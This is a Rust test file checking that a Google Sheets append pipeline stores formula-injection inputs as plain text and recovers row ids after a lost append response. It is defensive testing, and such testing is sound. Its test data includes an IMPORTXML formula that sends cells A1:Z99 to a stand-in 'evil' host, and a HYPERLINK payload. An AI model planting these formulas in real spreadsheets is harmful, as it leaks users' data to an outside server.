//! Formula injection (issue 37, item 1): a form answer, a header title or a
//! row id that a spreadsheet would read as a formula (`=IMPORTXML(…)`,
//! `+…`, `-…`, `@…`, a leading tab or carriage return) reaches the sandbox
//! Google Sheets over HTTP and must be held there as text, with the
//! default settings (`RAW`) and under `USER_ENTERED`; the row ids, tricky
//! ones included, must still be found when a flush verifies an append
//! whose answer it never got.
//!
//! The sandbox holds a formula as `{"formula": …}` (`USER_ENTERED` and a
//! string starting with `=`, or with `+`/`-` before something other than a
//! number), and drops a leading apostrophe under `USER_ENTERED` as Google
//! does.

use crate::sheet_support;

use serde_json::{Value, json};
use sheet_support::{DOC, SheetTest, USER};
use sluice_domain::{SheetRow, SheetWork, WorkItem};
use sluice_pipeline::SheetConfig;
use sluice_pipeline::sheet_io::{BufferInput, FlushNext};
use sluice_pipeline::step_io::{ItemKind, ItemPlan};
use sluice_sandbox::sheets::formula_of;
use sluice_sandbox::{SheetsFault, SheetsOp, SheetsSandboxConfig};
use sluice_sheets::values::ValueInputOption;
use sluice_testkit::now_ms;
use std::time::Duration;

const LIMIT: Duration = Duration::from_secs(60);

const ATTACK: &str = r#"=IMPORTXML("https://evil/?"&A1:Z99,"//a")"#;

/// Cells a spreadsheet would read as formulas (or, opened elsewhere, might).
fn dangerous() -> Vec<&'static str> {
    vec![ATTACK, "+1+1", "-A1", "- item", "@SUM(A1:A9)", "\t=1+1", "\r=1+1"]
}

/// A row's cells: the dangerous ones, then harmless ones (`-12` and `007`
/// look like numbers, `'quoted` starts with an apostrophe).
fn cells() -> Vec<Value> {
    let harmless = [json!("-12"), json!("007"), json!("'quoted"), json!(5), json!(true)];
    dangerous().into_iter().map(Value::from).chain(harmless).collect()
}

/// The header's titles: dangerous ones, then a plain one.
fn header() -> Vec<String> {
    let titles = [r#"=HYPERLINK("https://evil/","x")"#, "-note", "+total", "@who", "name"];
    titles.into_iter().map(str::to_owned).collect()
}

/// Row ids a sender may choose (any text without control characters).
const IDS: [&str; 5] = ["=r1", "'r2", "007", "-r4", "plain-5"];
/// More, for a batch whose append's answer is lost.
const VERIFIED_IDS: [&str; 5] = ["'v1", "=v2", "008", "+v3", "v4"];

fn settings(value_input: Option<ValueInputOption>) -> SheetConfig {
    let base = SheetConfig { flush_lease: Duration::from_secs(3), ..SheetConfig::default() };
    match value_input {
        Some(value_input) => SheetConfig { value_input, ..base },
        None => base,
    }
}

async fn buffer(t: &SheetTest, id: &str) {
    let row = SheetRow {
        credential_id: USER.into(),
        spreadsheet_id: DOC.into(),
        sheet_gid: 0,
        submission_id: format!("sub-{id}"),
        row_id: id.into(),
        header: Some(header()),
        values: cells(),
    };
    row.validate().unwrap();
    let item = ItemPlan {
        item_id: format!("msg-{id}"),
        receive_count: 1,
        last_receive: false,
        kind: ItemKind::SheetRow,
        work: Some(WorkItem::SheetRow(SheetWork::new(row, now_ms()))),
        invalid: None,
    };
    t.steps.buffer_row(BufferInput { item }).await.unwrap();
}

/// The cells as the sheet must hold them: under `RAW` exactly as sent;
/// under `USER_ENTERED` the dangerous ones as text equal to what was sent,
/// the rest read as typed (numbers, and an apostrophe forcing text).
fn expected_cells(user_entered: bool) -> Vec<Value> {
    if !user_entered {
        return cells();
    }
    let typed = [json!(-12), json!(7), json!("quoted"), json!(5), json!(true)];
    dangerous().into_iter().map(Value::from).chain(typed).collect()
}

/// Flushes the rows of `IDS` and checks what the sheet holds.
async fn formulas_stay_text(test: &str, value_input: Option<ValueInputOption>, user_entered: bool) {
    let t = SheetTest::start(test, SheetsSandboxConfig::default(), settings(value_input), Duration::from_secs(1)).await;
    for id in IDS {
        buffer(&t, id).await;
    }
    t.flush_until_idle(0, 5).await;

    let held = t.sandbox.sheet_values(DOC, 0).unwrap();
    let formulas: Vec<(usize, usize, &str)> = held
        .iter()
        .enumerate()
        .flat_map(|(r, row)| row.iter().enumerate().filter_map(move |(c, v)| formula_of(v).map(|f| (r, c, f))))
        .collect();
    assert!(formulas.is_empty(), "cells held as live formulas (row, column, formula): {formulas:?}");

    let mut header_row = vec![json!("row_id")];
    header_row.extend(header().into_iter().map(Value::from));
    assert_eq!(held[0], header_row, "the header is held as text, as sent");
    assert_eq!(held.len(), 1 + IDS.len(), "every row once: {held:?}");
    for (row, id) in held[1..].iter().zip(IDS) {
        assert_eq!(row[0], json!(id), "column A holds the row id as text, exactly");
        assert_eq!(row[1..], expected_cells(user_entered), "row {id}");
    }
}

/// Flushes the rows of `VERIFIED_IDS` with the append applied and its
/// answer lost: the next flush reads column A back and must find every
/// id there, so nothing is sent twice.
async fn ids_are_found_after_a_lost_answer(test: &str, value_input: Option<ValueInputOption>) {
    let t = SheetTest::start(test, SheetsSandboxConfig::default(), settings(value_input), Duration::from_secs(1)).await;
    for id in VERIFIED_IDS {
        buffer(&t, id).await;
    }
    t.sandbox.inject(SheetsFault::ApplyThenHold { op: SheetsOp::ValuesAppend, hold: Duration::from_secs(3) });
    let lost = t.flush(0).await;
    assert_eq!((lost.appended_rows, lost.next), (0, FlushNext::Later), "the answer was lost");
    t.flush_until_idle(0, 5).await;
    let applied = t.sandbox.calls().iter().filter(|c| c.op == SheetsOp::ValuesAppend && c.applied).count();
    let column_a: Vec<Value> = t.sandbox.sheet_values(DOC, 0).unwrap().iter().map(|row| row[0].clone()).collect();
    assert_eq!(applied, 1, "the batch was found in the sheet, not sent again: column A {column_a:?}");
    let mut expected = vec![json!("row_id")];
    expected.extend(VERIFIED_IDS.into_iter().map(Value::from));
    assert_eq!(column_a, expected);
}

#[tokio::test]
async fn formulas_stay_text_with_the_default_settings() {
    tokio::time::timeout(LIMIT, formulas_stay_text("formulas_default", None, false)).await.unwrap();
}

#[tokio::test]
async fn formulas_stay_text_under_raw() {
    let raw = Some(ValueInputOption::Raw);
    tokio::time::timeout(LIMIT, formulas_stay_text("formulas_raw", raw, false)).await.unwrap();
}

#[tokio::test]
async fn formulas_stay_text_under_user_entered() {
    let user_entered = Some(ValueInputOption::UserEntered);
    tokio::time::timeout(LIMIT, formulas_stay_text("formulas_user_entered", user_entered, true)).await.unwrap();
}

#[tokio::test]
async fn row_ids_are_found_after_a_lost_answer_under_raw() {
    let raw = Some(ValueInputOption::Raw);
    tokio::time::timeout(LIMIT, ids_are_found_after_a_lost_answer("formulas_verify_raw", raw)).await.unwrap();
}

#[tokio::test]
async fn row_ids_are_found_after_a_lost_answer_under_user_entered() {
    let user_entered = Some(ValueInputOption::UserEntered);
    let check = ids_are_found_after_a_lost_answer("formulas_verify_user_entered", user_entered);
    tokio::time::timeout(LIMIT, check).await.unwrap();
}
